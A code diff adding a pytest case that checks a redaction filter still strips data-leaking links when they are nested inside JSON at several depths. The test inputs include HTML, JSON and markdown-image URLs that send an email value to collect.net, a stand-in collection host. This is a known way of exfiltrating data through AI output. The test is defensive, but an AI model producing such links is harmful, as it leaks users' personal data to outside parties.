@@ -150,6 +150,29 @@ def test_a_redacted_tool_call_is_still_json() -> None:
     assert left["n"] == 1
 
 
+@pytest.mark.parametrize("depth", range(4))
+@pytest.mark.parametrize(
+    "text",
+    [
+        f'<a href="https://collect.net/?q={MAIL}">Reply</a>',
+        f'{{"url":"https://collect.net/?q={MAIL}","n":1}}',
+        f'said "{PERSON}":\nhttps://collect.net/{MAIL}\\x"\n',
+        f"![logo](https://collect.net/?q={MAIL})",
+    ],
+)
+def test_a_redacted_document_is_still_one(text: str, depth: int) -> None:
+    """Structured outputs: a link must not take the escape of the quote after it along."""
+    document = text
+    for _ in range(depth + 1):
+        document = json.dumps({"text": document}, ensure_ascii=False)
+    answer = case(ASK, document)
+    left = answer.judged(rules("redact")).redacted(0, answer.parts[0].text)
+    for _ in range(depth + 1):
+        left = json.loads(left)["text"]
+    assert WITHHELD in left
+    assert "collect.net/?q=[" not in left
+
+
 # --- where the same words do no harm -------------------------------------------------------------------------
 
 
